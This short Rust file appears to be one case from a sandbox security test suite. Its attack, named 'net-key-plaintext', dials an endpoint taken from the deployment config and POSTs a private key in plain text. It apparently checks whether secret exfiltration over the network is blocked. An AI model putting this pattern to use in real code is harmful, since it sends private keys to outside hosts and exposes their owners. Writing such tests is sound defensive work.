//! The private key over plain text.
#![no_std]

hostile::attack!("net-key-plaintext", |sandbox, deployment| {
    use lastmile_sdk::Connection as _;
    let mut connection = sandbox.dial(&hostile::text(&deployment.config, "endpoint"))?;
    connection.request(&lastmile_sdk::Request {
        method: "POST".into(),
        path: "/".into(),
        headers: alloc::vec![],
        body: alloc::vec![lastmile_sdk::document::private_key()],
        timeout_ms: None,
    })?;
});
